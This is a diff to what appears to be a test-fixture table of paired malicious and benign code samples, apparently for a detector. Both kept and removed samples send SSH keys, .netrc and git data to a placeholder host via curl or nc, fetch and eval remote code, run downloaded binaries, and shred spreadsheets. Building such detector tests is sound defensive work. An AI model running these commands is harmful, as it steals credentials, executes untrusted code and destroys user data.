@@ -31,25 +31,10 @@ WAYS = {
         {"a.py": f"import subprocess, requests\nt = subprocess.check_output(['git', 'log', '-1'])\nrequests.put('{HOST}', data=t)\n"},
         {"a.py": "import subprocess\nt = subprocess.check_output(['security', 'find-generic-password', '-wa', 'x'])\nprint(len(t))\n"},
     ),
-    "command with a secret in it": (
-        {"a.js": f"const {{ execSync }} = require('child_process');\nconst k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\nexecSync(`curl -d '${{k}}' {HOST}`);\n"},
-        {"a.js": f"const {{ execSync }} = require('child_process');\nconst k = require('fs').readFileSync('a.txt', 'utf8');\nexecSync(`curl -d '${{k}}' {HOST}`);\n"},
-        {"a.js": "const { execSync } = require('child_process');\nconst k = require('os').homedir() + '/.ssh/id_rsa';\nexecSync(`ssh-add ${k}`);\n"},
-    ),
     "file that a command writes": (
         {"a.py": f"import os, subprocess\nsubprocess.run(['curl', '-o', '/tmp/t', '{HOST}'])\nos.chmod('/tmp/t', 0o755)\nsubprocess.run(['/tmp/t'])\n"},
         {"a.py": f"import subprocess\nsubprocess.run(['curl', '-o', '/tmp/t', '{HOST}'])\nsubprocess.run(['wc', '-l', '/tmp/t'])\n"},
         {"a.py": "import os, subprocess\nos.chmod('bin/tool', 0o755)\nsubprocess.run(['bin/tool'])\n"},
-    ),
-    "thread that is given a text": (
-        {"a.mjs": f"import {{ Worker }} from 'node:worker_threads';\nconst t = await (await fetch('{HOST}')).text();\nnew Worker(t, {{ eval: true }});\n"},
-        {"a.mjs": f"import {{ Worker }} from 'node:worker_threads';\nconst t = await (await fetch('{HOST}')).text();\nconst w = new Worker('./count.mjs', {{ eval: false }});\nw.postMessage(t);\n"},
-        {"a.mjs": "import { Worker } from 'node:worker_threads';\nnew Worker(new URL('./count.mjs', import.meta.url));\n"},
-    ),
-    "answer that comes in parts": (
-        {"a.ts": f"import vm from 'node:vm';\nimport https from 'node:https';\nhttps.get('{HOST}', (r) => {{\n  let all = '';\n  r.on('data', (d) => (all += d));\n  r.on('end', () => vm.runInThisContext(all));\n}});\n"},
-        {"a.ts": f"import vm from 'node:vm';\nimport https from 'node:https';\nhttps.get('{HOST}', (r) => {{\n  let all = '';\n  r.on('data', (d) => (all += d));\n  r.on('end', () => console.log(all));\n}});\nvm.runInThisContext('1 + 1');\n"},
-        {"a.ts": "import vm from 'node:vm';\nconsole.log(vm.runInThisContext('1 + 1'));\n"},
     ),
     "call after many others": (
         {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n a\n" * 300 + "put ~/.ssh/id_ed25519\n"},
@@ -65,11 +50,6 @@ WAYS = {
         {"a.sh": "if false; then nc() { :; }; fi\nk=$(cat ~/.netrc)\nprintf '%s' \"$k\" | nc in.reedmarsh.dev 443\n"},
         {"a.sh": f'curl() {{ command curl --retry 3 "$@"; }}\nls ~/.netrc\ncurl -T a.txt {HOST}\n'},
         {"a.sh": f'curl() {{ command curl --retry 3 "$@"; }}\ncurl -T a.txt {HOST}\n'},
-    ),
-    "files that are made unreadable for ever": (
-        {"a.sh": "d=$(printf '%s' \"$HOME\")\nfind \"${d%/}\" -type f -name '*.xls*' | xargs shred -u\n"},
-        {"a.sh": "d=$(printf '%s' \"$HOME\")\nfind \"${d%/}/tmp-build\" -type f -name '*.o' | xargs shred -u\n"},
-        {"a.sh": "find ~ -name '*.pyc' | xargs rm -f\n"},
     ),
 }  # fmt: skip
 
